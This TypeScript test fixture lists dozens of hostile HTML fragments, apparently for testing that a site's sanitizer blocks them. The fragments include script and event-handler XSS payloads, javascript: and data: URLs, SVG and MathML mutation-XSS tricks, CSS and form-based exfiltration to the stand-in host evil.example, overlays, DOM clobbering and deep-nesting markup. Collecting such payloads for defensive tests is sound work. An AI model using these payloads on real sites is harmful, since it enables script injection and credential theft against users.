/** What a fragment that runs leaves behind. */
const RUN = 'window.__ran=1';
/** Where a fragment that leaves the site goes. */
const EVIL = 'https://evil.example';
const COVER = 'position:fixed;top:0;left:0;right:0;bottom:0;z-index:2147483647;background:red';

/**
 * HTML that an operator's account in the wrong hands could publish, by what it tries. None of it may run, send a
 * request or cover the page (SHELL-43, SHELL-44).
 */
export const HOSTILE_FRAGMENTS: readonly (readonly [what: string, html: string])[] = [
  ['a script', `<script>${RUN}</script>`],
  ['a script in odd letters', `<ScRiPt >${RUN}</sCrIpT >`],
  ['a script with a slash for a blank', `<script/x>${RUN}</script>`],
  ['a script within a script', `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ['a script of another site', `<script src=${EVIL}/x.js></script>`],
  ['a script of a data address', `<script src="data:text/javascript,${RUN}"></script>`],
  ['a module', `<script type=module>${RUN}</script>`],
  ['a script that is never closed', `<script>${RUN}`],
  ['a handler of an error', `<img src=x onerror=${RUN}>`],
  ['a handler without a blank before it', `<img/src=x/onerror=${RUN}>`],
  ['a handler after a quote', `<img src="x"onerror="${RUN}">`],
  ['a handler after a new line', `<img src=x\nonerror\n=\n"${RUN}">`],
  ['a handler behind a null', `<img src=x on\u0000error=${RUN}>`],
  ['a handler of a load', `<body onload=${RUN}><iframe onload=${RUN}></iframe>`],
  [
    'a handler of focus that takes it',
    `<input autofocus onfocus=${RUN}><a href=/x autofocus onfocus=${RUN}>x</a>`,
  ],
  ['a handler of a toggle', `<details open ontoggle=${RUN}><summary>x</summary></details>`],
  ['a handler of an animation', `<p style="animation-name:x" onanimationstart=${RUN}>x</p>`],
  ['a handler of a marquee', `<marquee onstart=${RUN}>x</marquee>`],
  [
    'handlers of media',
    `<video autoplay onloadstart=${RUN} src=/x></video><audio src=x onerror=${RUN}></audio>`,
  ],
  ['a handler of a pointer', `<p onpointerenter=${RUN} onmouseover=${RUN} onclick=${RUN}>x</p>`],
  ['a javascript address', `<a href="javascript:${RUN}">x</a>`],
  ['a javascript address in odd letters', `<a href="JaVaScRiPt:${RUN}">x</a>`],
  ['a javascript address with a tab in it', `<a href="java\tscript:${RUN}">x</a>`],
  [
    'a javascript address with an entity in it',
    `<a href="java&#x09;script:${RUN}">x</a><a href="&#106;avascript&colon;${RUN}">x</a>`,
  ],
  ['a javascript address behind control characters', `<a href="\u0001\u0008 javascript:${RUN}">x</a>`],
  ['a javascript address as a picture', `<img src="javascript:${RUN}"><img src="java\nscript:${RUN}">`],
  [
    'a javascript address of a form',
    `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">x</button></form>`,
  ],
  [
    'a javascript address in every other place',
    `<table background="javascript:${RUN}"><td background="javascript:${RUN}"></table><blockquote cite="javascript:${RUN}">x</blockquote><object data="javascript:${RUN}"></object>`,
  ],
  [
    'a data address',
    `<a href="data:text/html,<script>${RUN}</script>">x</a><img src="data:image/svg+xml,<svg onload='${RUN}'/>">`,
  ],
  ['a vbscript address', `<a href="vbscript:${RUN}">x</a>`],
  ['a file and a blob address', `<a href="file:///etc/passwd">x</a><a href="blob:${EVIL}/x">x</a>`],
  [
    'an address without a scheme',
    `<a href="//evil.example/x">x</a><img src="//evil.example/x.png"><a href="\\\\evil.example">x</a><a href="/\\evil.example">x</a>`,
  ],
  [
    'a javascript address in an SVG link',
    `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  ],
  ['an SVG with a handler', `<svg onload=${RUN}><animate onbegin=${RUN} attributeName=x dur=1s></svg>`],
  [
    'an SVG with a script and foreign content',
    `<svg><script>${RUN}</script><foreignObject><iframe srcdoc="<script>parent.__ran=1</script>"></iframe></foreignObject></svg>`,
  ],
  [
    'an SVG that sets an address',
    `<svg><a><set attributeName=href to="javascript:${RUN}" /><text>x</text></a><use href="data:image/svg+xml,<svg id=x onload='${RUN}'/>#x"></svg>`,
  ],
  ['MathML with an address', `<math href="javascript:${RUN}"><mtext>x</mtext></math>`],
  [
    'markup that changes when it is parsed again',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  ],
  ['markup that changes in SVG', `<svg></p><style><a title="</style><img src=x onerror=${RUN}>">`],
  [
    'markup that changes in a form in a table',
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  ],
  ['markup in a noscript', `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`],
  [
    'markup in a text area, a title and an old frame',
    `<textarea></textarea><img src=x onerror=${RUN}><title><img src=x onerror=${RUN}></title><noembed><img src=x onerror=${RUN}></noembed><xmp><img src=x onerror=${RUN}></xmp>`,
  ],
  ['markup in a comment', `<!--><img src=x onerror=${RUN}>--><!-- --!><img src=x onerror=${RUN}> -->`],
  [
    'a template',
    `<template><img src=x onerror=${RUN}></template><template shadowrootmode=open><style>:host{${COVER}}</style></template>`,
  ],
  ['a frame with its own document', `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`],
  [
    'a frame of another site',
    `<iframe src=${EVIL} style="${COVER}"></iframe><frameset><frame src=${EVIL}></frameset>`,
  ],
  [
    'an object and an embed',
    `<object data="${EVIL}/x.swf"><param name=x value=y></object><embed src="${EVIL}/x"><applet code=x></applet>`,
  ],
  ['a base', `<base href="${EVIL}/"><a href="x">x</a>`],
  [
    'a refresh',
    `<meta http-equiv=refresh content="0;url=${EVIL}"><meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  ],
  [
    'a link to a style and to what may be needed',
    `<link rel=stylesheet href="${EVIL}/x.css"><link rel=prefetch href="${EVIL}/x"><link rel=preload as=image href="${EVIL}/x.png"><link rel=dns-prefetch href=//evil.example>`,
  ],
  [
    'a style sheet',
    `<style>@import '${EVIL}/x.css';body{display:none}input[value^=a]{background:url(${EVIL}/a)}</style>`,
  ],
  [
    'a style with an address',
    `<p style="background:url(${EVIL}/x.png);width:100px">x</p><p style="background-image:u\\72l(${EVIL}/y.png)">x</p>`,
  ],
  [
    'a style with an expression and a binding',
    `<p style="width:expression(${RUN});behavior:url(${EVIL}/x.htc);-moz-binding:url(${EVIL}/x.xml#x)">x</p>`,
  ],
  [
    'a style with an image set and a variable',
    `<p style="background:image-set('${EVIL}/x.png' 1x);--x:url(${EVIL}/x);width:var(--x)">x</p>`,
  ],
  ['an overlay', `<div style="${COVER}">x</div><a href="${EVIL}" style="${COVER}">x</a>`],
  [
    'an overlay by sizes',
    `<div style="width:99999px;height:99999px;margin:-9999px;padding:9999px;margin-top:-500px;font-size:9999px">x</div>`,
  ],
  [
    'an overlay in the words of the site',
    `<dialog open style="${COVER}">x</dialog><div popover id=p class="popup" role=dialog aria-modal=true data-size="${COVER}" data-scroll>x</div>`,
  ],
  ['huge pictures', `<img src="/art/heroes/moon.svg" width=99999 height=99999 style="${COVER}">`],
  [
    'a form that asks for a password',
    `<form action=${EVIL} method=post><input name=password type=password><select><option>x</select><button>x</button></form><input form=x formaction=${EVIL}>`,
  ],
  ['an attribute that is never closed', `<img src='${EVIL}/?`],
  ['a link that is never closed', `<a href="/m/home"><table><td><a href=${EVIL}><button><form>`],
  [
    'a link that tells and opens',
    `<a href="${EVIL}" ping="${EVIL}/ping" target=_self rel=opener download onclick=${RUN} attributionsrc=${EVIL}>x</a>`,
  ],
  [
    'a picture with other addresses',
    `<img srcset="${EVIL}/x.png 1x" lowsrc="${EVIL}/y.png" dynsrc=${EVIL} src="/art/heroes/moon.svg"><picture><source srcset="${EVIL}/z.png"></picture><image xlink:href=${EVIL}/i.png><body background=${EVIL}/b.png>`,
  ],
  [
    'a map',
    `<img usemap=#m src="/art/heroes/moon.svg"><map name=m><area href="javascript:${RUN}" coords=0,0,999,999></map>`,
  ],
  [
    'names that take the place of the page’s',
    `<a id=root name=cookie href=/x>x</a><img name=body src="/art/heroes/moon.svg"><form id=location name=getElementById><input name=attributes></form><p id=__proto__ class=root>x</p>`,
  ],
  [
    'elements of its own',
    `<x-y onclick=${RUN} is=z>x</x-y><button is=x-y onclick=${RUN}>x</button><slot onslotchange=${RUN}>x</slot>`,
  ],
  [
    'editable and movable parts',
    `<div contenteditable onblur=${RUN} autofocus draggable=true ondragstart=${RUN} tabindex=1 accesskey=x inert hidden>x</div>`,
  ],
  [
    'old ways to script',
    `<img src="&{${RUN}};"><div datasrc=#x><xml id=x></xml><bgsound src="javascript:${RUN}"><layer src=${EVIL}></layer>`,
  ],
  ['letters that are not what they look', `＜script＞${RUN}＜/script＞<ſcript>${RUN}</ſcript>\u202e<p>x</p>`],
  ['entities without an end', `&lt;script&gt;${RUN}&lt;/script&gt;&#60script&#62${RUN}`],
  [
    'a section of data',
    `<![CDATA[<img src=x onerror=${RUN}>]]><?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "z">]>`,
  ],
  [
    'a table that lets others in front of it',
    `<table><tr><td>x<script>${RUN}</script><img src=x onerror=${RUN}></table><plaintext><img src=x onerror=${RUN}>`,
  ],
  ['links nested by the thousand', `${'<a href=/x>'.repeat(1000)}x`],
  ['lists nested by the thousand', `${'<ul><li>'.repeat(3000)}<img src=x onerror=${RUN}>`],
];
